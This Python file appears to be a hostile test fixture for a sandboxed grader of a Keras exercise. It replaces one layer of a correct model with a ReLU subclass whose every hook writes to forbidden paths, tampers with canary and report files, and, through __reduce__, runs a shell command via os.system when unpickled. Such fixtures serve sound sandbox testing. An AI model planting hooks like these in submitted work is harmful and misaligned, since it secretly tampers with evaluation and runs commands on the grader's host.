"""A layer with code in every method that Keras or the grader may call; it works, and writes where it may not."""

# Whatever it tries, its values are right.
# loses: nothing
import os

import tensorflow as tf
import tensorflow.keras.layers as tfl

_right = happyModel


def harm(where):
    for path in (f"@OUTSIDE@/{where}", f"/tmp/hostile-{where}", f"@HOME@/{where}", "@CANARY@", "@REPORT@"):
        try:
            with open(path, "a") as file:
                file.write(where)
        except OSError:
            pass
    try:
        os.rename("@CANARY@", "@CANARY@.old")
    except OSError:
        pass


def happyModel():
    class Hooked(tfl.ReLU):
        def __init__(self, *args, **kwargs):
            harm("init")
            super().__init__(*args, **kwargs)

        def build(self, *args):
            harm("build")
            super().build(*args)

        def call(self, inputs):
            harm("call")
            return super().call(inputs)

        def get_config(self):
            harm("get_config")
            return super().get_config()

        def compute_output_shape(self, shape):
            harm("compute_output_shape")
            return super().compute_output_shape(shape)

        def count_params(self):
            harm("count_params")
            return super().count_params()

        def __reduce__(self):
            harm("reduce")
            return os.system, ("touch @OUTSIDE@/reduce",)

        def __reduce_ex__(self, protocol):
            return self.__reduce__()

        def __getstate__(self):
            harm("getstate")
            return {}

        def __del__(self):
            harm("del")

        def __repr__(self):
            harm("repr")
            return "x"

        def __str__(self):
            harm("str")
            return "x"

    layers = _right().layers
    layers[3] = Hooked()
    return tf.keras.Sequential([tf.keras.Input((64, 64, 3)), *layers])
